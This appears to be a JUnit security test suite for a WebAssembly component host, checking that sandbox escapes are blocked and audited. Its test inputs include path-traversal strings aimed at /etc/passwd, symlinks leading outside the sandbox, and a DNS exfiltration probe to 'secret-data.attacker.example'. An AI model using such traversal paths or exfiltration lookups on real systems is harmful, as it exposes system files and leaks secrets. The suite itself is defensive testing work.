package dev.wassette.host;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import dev.wassette.Fixtures;
import dev.wassette.policy.PolicyParser;
import dev.wassette.runtime.ExportedFunction;
import dev.wassette.runtime.TrapException;
import dev.wassette.runtime.Val;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile components against one {@link ComponentHost} (as the server runs them): every escape
 * attempt is denied or stopped with a clear error, the audit counts it, and a legitimate call on the
 * same host succeeds afterwards. SECURITY.md lists these attempts and their outcomes.
 */
class SecuritySuiteTest {
    static final String FILES = "wassette:fixtures/files@0.1.0#";
    static final String TYPES = "wassette:fixtures/types@0.1.0#";

    @TempDir
    static Path tmp;
    private static ComponentHost host;
    private static HttpServer web;
    private static ServerSocket tcp;
    private static final AtomicInteger webHits = new AtomicInteger();
    private static final AtomicInteger tcpAccepts = new AtomicInteger();
    private static Path data;

    @BeforeAll
    static void start() throws Exception {
        data = Files.createDirectories(tmp.resolve("data"));
        Files.writeString(data.resolve("ok.txt"), "fine");
        Files.writeString(tmp.resolve("outside.txt"), "SECRET-OUTSIDE");
        Files.createSymbolicLink(data.resolve("abs-link"), Path.of("/etc/passwd"));
        Files.createSymbolicLink(data.resolve("rel-link"), Path.of("../outside.txt"));
        Files.createSymbolicLink(data.resolve("dir-link"), tmp);
        web = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        web.createContext("/", ex -> {
            webHits.incrementAndGet();
            byte[] b = "reached".getBytes(StandardCharsets.UTF_8);
            ex.sendResponseHeaders(200, b.length);
            ex.getResponseBody().write(b);
            ex.close();
        });
        web.start();
        tcp = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread.ofPlatform().daemon().start(() -> {
            while (!tcp.isClosed()) {
                try (Socket s = tcp.accept()) {
                    tcpAccepts.incrementAndGet();
                    s.getOutputStream().write("pong".getBytes(StandardCharsets.UTF_8));
                } catch (IOException e) {
                    // closed
                }
            }
        });
        ComponentHost.Settings settings = ComponentHost.Settings.builder().componentDir(tmp.resolve("components")).secretsDir(tmp.resolve("secrets")).baseDir(tmp)
                .processEnv(Map.of("HOME", "/root", "PATH", "/usr/bin", "API_KEY", "granted-value")).callTimeout(Duration.ofSeconds(5)).maxResultBytes(64 * 1024).build();
        host = new ComponentHost(Fixtures.engine(), settings);
        for (String name : List.of("types", "io", "fetch", "spin", "bomb", "netprobe")) {
            host.load(name, Files.readAllBytes(Fixtures.path(name + ".wasm")));
        }
        host.load("recurse", Files.readAllBytes(Fixtures.path("recurse.wat")));
    }

    @AfterAll
    static void stop() throws IOException {
        host.close();
        web.stop(0);
        tcp.close();
    }

    @AfterEach
    void legitimateCallStillWorks() throws Exception {
        assertEquals(new Val.S32(5), call("types", TYPES + "add", new Val.S32(2), new Val.S32(3)));
    }

    private static void policy(String id, String permissions) throws Exception {
        var p = PolicyParser.parse("version: \"1.0\"\npermissions:\n" + permissions, id + ".yaml");
        host.store().update(id, old -> p);
    }

    private static Val call(String id, String fn, Val... args) throws Exception {
        ExportedFunction f = host.component(id).sandbox().component().export(fn);
        return host.call(id, f, List.of(args));
    }

    private static String err(Val v) {
        assertTrue(v instanceof Val.ResultVal r && !r.isOk(), () -> "expected an error, got " + v);
        return String.valueOf(((Val.ResultVal) v).payload());
    }

    @Test
    void readEtcPasswdWithoutGrant() throws Exception {
        policy("io", "  {}\n");
        String e = err(call("io", FILES + "read-file", new Val.Str("/etc/passwd")));
        assertFalse(e.contains("root:"), e);
    }

    @Test
    void dotDotAndAbsoluteEscapesFromAPreopen() throws Exception {
        policy("io", "  storage:\n    allow: [{uri: \"fs://data/**\", access: [read]}]\n");
        assertEquals(Val.ResultVal.ok(new Val.Str("fine")), call("io", FILES + "read-file", new Val.Str("data/ok.txt")));
        for (String path : List.of("data/../outside.txt", "data/../../etc/passwd", "/etc/passwd", tmp.resolve("outside.txt").toString(),
                "data/./../outside.txt")) {
            String e = err(call("io", FILES + "read-file", new Val.Str(path)));
            assertFalse(e.contains("SECRET") || e.contains("root:"), e);
        }
    }

    @Test
    void symlinksInsideAPreopenCannotPointOutside() throws Exception {
        policy("io", "  storage:\n    allow: [{uri: \"fs://data/**\", access: [read]}]\n");
        for (String link : List.of("data/abs-link", "data/rel-link", "data/dir-link/outside.txt")) {
            String e = err(call("io", FILES + "read-file", new Val.Str(link)));
            assertFalse(e.contains("SECRET") || e.contains("root:"), e);
        }
    }

    @Test
    void writeThroughReadOnlyGrant() throws Exception {
        policy("io", "  storage:\n    allow: [{uri: \"fs://data/**\", access: [read]}]\n");
        err(call("io", FILES + "write-file", new Val.Str("data/ok.txt"), new Val.Str("overwritten")));
        err(call("io", FILES + "write-file", new Val.Str("data/new.txt"), new Val.Str("x")));
        assertEquals("fine", Files.readString(data.resolve("ok.txt")));
        assertFalse(Files.exists(data.resolve("new.txt")));
    }

    @Test
    void environmentVariableNotGranted() throws Exception {
        policy("io", "  environment:\n    allow: [{key: API_KEY}]\n");
        assertEquals(new Val.OptionVal(new Val.Str("granted-value")), call("io", FILES + "get-env", new Val.Str("API_KEY")));
        assertEquals(Val.OptionVal.NONE, call("io", FILES + "get-env", new Val.Str("HOME")));
        assertEquals(Val.OptionVal.NONE, call("io", FILES + "get-env", new Val.Str("PATH")));
    }

    private static String url(String host) {
        return "http://" + host + ":" + web.getAddress().getPort() + "/";
    }

    private long networkDenials() {
        return host.audit().count(Audit.Category.NETWORK);
    }

    @Test
    void httpToUnlistedHost() throws Exception {
        policy("fetch", "  network:\n    allow: [{host: \"api.example.com\"}]\n");
        long before = networkDenials();
        err(call("fetch", "http-get", new Val.Str(url("127.0.0.1"))));
        assertEquals(0, webHits.get());
        assertTrue(networkDenials() > before);
    }

    @Test
    void httpToHostMatchingOnlyADenyRule() throws Exception {
        policy("fetch", "  network:\n    allow: [{cidr: \"127.0.0.0/8\"}]\n    deny: [{host: \"localhost\"}]\n");
        err(call("fetch", "http-get", new Val.Str(url("localhost"))));
        assertEquals(0, webHits.get());
    }

    @Test
    void httpToIpInDeniedCidr() throws Exception {
        policy("fetch", "  network:\n    allow: [{host: \"127.0.0.1\"}]\n    deny: [{cidr: \"127.0.0.0/8\"}]\n");
        err(call("fetch", "http-get", new Val.Str(url("127.0.0.1"))));
        assertEquals(0, webHits.get());
    }

    @Test
    void httpToNameResolvingIntoDeniedCidr() throws Exception {
        policy("fetch", "  network:\n    allow: [{host: \"localhost\"}]\n    deny: [{cidr: \"127.0.0.0/8\"}, {cidr: \"::1/128\"}]\n");
        err(call("fetch", "http-get", new Val.Str(url("localhost"))));
        assertEquals(0, webHits.get());
        // Control: the same name without the deny rule is reached, so the denial above was the CIDR's.
        policy("fetch", "  network:\n    allow: [{host: \"localhost\"}]\n");
        Val ok = call("fetch", "http-get", new Val.Str(url("localhost")));
        assertEquals(Val.ResultVal.ok(new Val.Str("200 reached")), ok);
        webHits.set(0);
    }

    @Test
    void rawTcpConnectToDeniedAddress() throws Exception {
        policy("netprobe", "  environment:\n    allow: [{key: NETPROBE_ACTION}, {key: NETPROBE_TARGET}]\n"
                + "  network:\n    allow: [{cidr: \"10.0.0.0/8\"}]\n");
        ComponentHost probing = new ComponentHost(Fixtures.engine(), ComponentHost.Settings.builder().componentDir(tmp.resolve("components")).secretsDir(tmp.resolve("secrets")).baseDir(tmp)
                .processEnv(Map.of()).explicitEnv(Map.of("NETPROBE_ACTION", "tcp", "NETPROBE_TARGET", "127.0.0.1:" + tcp.getLocalPort())).callTimeout(Duration.ofSeconds(5)).maxResultBytes(1 << 20).build());
        try (probing) {
            probing.loadAll();
            ExportedFunction run = probing.component("netprobe").sandbox().component().export("wasi:cli/run@0.2.0#run");
            TrapException e = assertThrows(TrapException.class, () -> probing.call("netprobe", run, List.of()));
            assertEquals(TrapException.Kind.EXIT, e.kind());
            assertEquals(0, tcpAccepts.get());
            assertTrue(probing.audit().count(Audit.Category.NETWORK) > 0);
        }
    }

    @Test
    void dnsExfiltrationThroughNameLookupsIsClosed() throws Exception {
        // A guest without network rules cannot resolve names at all (a lookup alone reaches a DNS server).
        policy("netprobe", "  environment:\n    allow: [{key: NETPROBE_ACTION}, {key: NETPROBE_TARGET}]\n");
        ComponentHost probing = new ComponentHost(Fixtures.engine(), ComponentHost.Settings.builder().componentDir(tmp.resolve("components")).secretsDir(tmp.resolve("secrets")).baseDir(tmp)
                .processEnv(Map.of()).explicitEnv(Map.of("NETPROBE_ACTION", "resolve", "NETPROBE_TARGET", "secret-data.attacker.example:443")).callTimeout(Duration.ofSeconds(5)).maxResultBytes(1 << 20).build());
        try (probing) {
            probing.loadAll();
            ExportedFunction run = probing.component("netprobe").sandbox().component().export("wasi:cli/run@0.2.0#run");
            assertThrows(TrapException.class, () -> probing.call("netprobe", run, List.of()));
        }
        // HTTP: a name no rule could allow is refused before the host looks it up.
        policy("fetch", "  network:\n    allow: [{host: \"api.example.com\"}]\n");
        long before = networkDenials();
        err(call("fetch", "http-get", new Val.Str("http://secret-data.attacker.example/")));
        assertTrue(networkDenials() > before);
    }

    @Test
    void cpuSpinIsStopped() throws Exception {
        TrapException e = assertThrows(TrapException.class, () -> call("spin", "spin"));
        assertTrue(e.kind() == TrapException.Kind.TIMEOUT || e.kind() == TrapException.Kind.OUT_OF_FUEL, e.getMessage());
        policy("spin", "  resources:\n    limits: {cpu: \"100m\"}\n");
        TrapException fuel = assertThrows(TrapException.class, () -> call("spin", "spin"));
        assertEquals(TrapException.Kind.OUT_OF_FUEL, fuel.kind(), fuel.getMessage());
        assertEquals(new Val.U32(42), call("spin", "ok"));
    }

    @Test
    void memoryBombIsStopped() throws Exception {
        policy("bomb", "  resources:\n    limits: {memory: \"32Mi\"}\n");
        try {
            Val total = call("bomb", "allocate", new Val.U32(8));
            assertTrue(((Val.U64) total).bits() <= 32L << 20, total.toString());
        } catch (TrapException e) {
            assertEquals(TrapException.Kind.MEMORY_LIMIT, e.kind(), e.getMessage());
        }
        assertEquals(new Val.U32(42), call("bomb", "ok"));
    }

    @Test
    void deepRecursionOverflowsTheStack() throws Exception {
        TrapException e = assertThrows(TrapException.class, () -> call("recurse", "recurse", new Val.U32(0)));
        assertEquals(TrapException.Kind.STACK_OVERFLOW, e.kind(), e.getMessage());
        assertTrue(host.audit().count(Audit.Category.STACK) > 0);
    }

    @Test
    void resultLargerThanTheCap() throws Exception {
        TrapException e = assertThrows(TrapException.class, () -> call("types", TYPES + "echo-string", new Val.Str("x".repeat(200_000))));
        assertEquals(TrapException.Kind.RESULT_LIMIT, e.kind());
        assertTrue(e.getMessage().contains("exceeds the limit of 65536 bytes"), e.getMessage());
    }

    @Test
    void secretsJoinTheEnvironmentOnlyWhenAllowed() throws Exception {
        host.secrets().set("io", "DB_PASSWORD", "from-the-secret-store");
        host.secrets().set("io", "API_KEY", "secret-beats-process-env");
        policy("io", "  environment:\n    allow: [{key: API_KEY}]\n");
        assertEquals(new Val.OptionVal(new Val.Str("secret-beats-process-env")), call("io", FILES + "get-env", new Val.Str("API_KEY")));
        assertEquals(Val.OptionVal.NONE, call("io", FILES + "get-env", new Val.Str("DB_PASSWORD")), "a secret is still subject to the allow list");
        policy("io", "  environment:\n    allow: [{key: API_KEY}, {key: DB_PASSWORD}]\n");
        assertEquals(new Val.OptionVal(new Val.Str("from-the-secret-store")), call("io", FILES + "get-env", new Val.Str("DB_PASSWORD")));
        host.secrets().delete("io", "DB_PASSWORD");
        host.secrets().delete("io", "API_KEY");
    }

    @Test
    void unenforceableRulesAreLeftOutNotWidenedAndTheRestStaysInForce() throws Exception {
        Path other = Files.createDirectories(tmp.resolve("other"));
        Files.writeString(other.resolve("b.txt"), "still granted");
        policy("io", """
                  storage:
                    allow:
                      - {uri: "fs://data/*.txt", access: [read]}
                      - {uri: "fs://other/**", access: [read]}
                """);
        CallContext context = new CallContext();
        Val denied = host.call("io", host.component("io").sandbox().component().export(FILES + "read-file"),
                List.of(new Val.Str("data/ok.txt")), context);
        assertFalse(err(denied).contains("fine"), "the glob is not widened to its directory");
        assertTrue(context.policyNotes().getFirst().contains("fs://data/*.txt") && context.policyNotes().getFirst().contains("glob"),
                context.policyNotes().toString());
        assertEquals(Val.ResultVal.ok(new Val.Str("still granted")), call("io", FILES + "read-file", new Val.Str("other/b.txt")),
                "an unenforceable rule does not take down the rules that can be enforced");
    }
}
